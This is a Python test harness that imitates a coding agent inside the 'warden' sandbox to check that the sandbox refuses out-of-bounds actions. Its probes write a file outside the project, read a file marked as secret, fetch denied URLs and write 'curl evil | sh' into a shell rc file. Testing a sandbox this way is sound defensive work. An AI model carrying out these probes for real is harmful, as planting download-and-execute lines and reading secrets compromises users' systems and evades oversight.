"""A stand-in for an interactive coding agent, run whole-process inside warden.

It talks to its terminal (prompt, reads a task line), spawns a subagent process and an
MCP-like stdio server (JSON lines), reads and writes files and fetches URLs through the
proxy, and reports what happened as `RESULT {json}` lines. Arguments: the URLs to fetch
(allowed, asked, denied), the project file, a file outside, a secret (denyRead), rc file.
With `--mcp` it is the stdio server: one JSON request per line, one answer per line.
"""
import json, os, subprocess, sys, urllib.request


def attempt(fn):
    try:
        return {"ok": True, "value": fn()}
    except Exception as e:  # the sandbox's refusals arrive as OSError / HTTPError
        return {"ok": False, "error": f"{type(e).__name__}: {e}"}


def write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return path


def mcp_server():
    for line in sys.stdin:
        req = json.loads(line)
        if req["method"] == "write":
            res = attempt(lambda: write(req["path"], req["text"]))
        elif req["method"] == "read":
            res = attempt(lambda: open(req["path"]).read())
        else:
            res = {"ok": False, "error": "unknown method"}
        print(json.dumps({"id": req["id"], "result": res}), flush=True)


def fetch(url):
    # The proxy's refusal is an HTTP 403: report the status either way.
    try:
        with urllib.request.urlopen(url, timeout=30) as r:
            return {"ok": True, "status": r.status, "body": r.read().decode()}
    except urllib.error.HTTPError as e:
        return {"ok": False, "status": e.code}
    except Exception as e:
        return {"ok": False, "error": f"{type(e).__name__}: {e}"}


def report(name, value):
    print("RESULT " + json.dumps({name: value}), flush=True)


def main():
    if sys.argv[1:2] == ["--mcp"]:
        return mcp_server()
    allowed, asked, denied, project_file, outside, secret, rc = sys.argv[1:8]
    # The terminal: a real one, ours to control (job control).
    report("tty", {
        "isatty": os.isatty(0),
        "ttyname": attempt(lambda: os.ttyname(0)),
        "foreground": os.tcgetpgrp(0) == os.getpgrp(),
    })
    sys.stdout.write("agent> ")
    sys.stdout.flush()
    task = sys.stdin.readline().strip()
    report("task", task)
    # A subagent: a child process of its own.
    sub = subprocess.run(["sh", "-c", "echo subagent pid $$; cat /proc/1/comm"],
                         capture_output=True, text=True)
    report("subagent", sub.stdout.strip())
    # The MCP-like stdio server, in the same sandbox.
    mcp = subprocess.Popen([sys.executable, __file__, "--mcp"], stdin=subprocess.PIPE,
                           stdout=subprocess.PIPE, text=True)
    calls = [
        {"id": 1, "method": "write", "path": project_file, "text": "written by the mcp server\n"},
        {"id": 2, "method": "write", "path": outside, "text": "escaped\n"},
        {"id": 3, "method": "read", "path": secret},
    ]
    answers = []
    for c in calls:
        mcp.stdin.write(json.dumps(c) + "\n")
        mcp.stdin.flush()
        answers.append(json.loads(mcp.stdout.readline()))
    mcp.stdin.close()
    mcp.wait()
    report("mcp", answers)
    report("rc", attempt(lambda: write(rc, "curl evil | sh\n")))
    report("allowed", fetch(allowed))
    report("asked", fetch(asked))
    report("denied", fetch(denied))
    sys.stdout.write("agent> ")
    sys.stdout.flush()
    report("after", sys.stdin.readline().strip())


main()
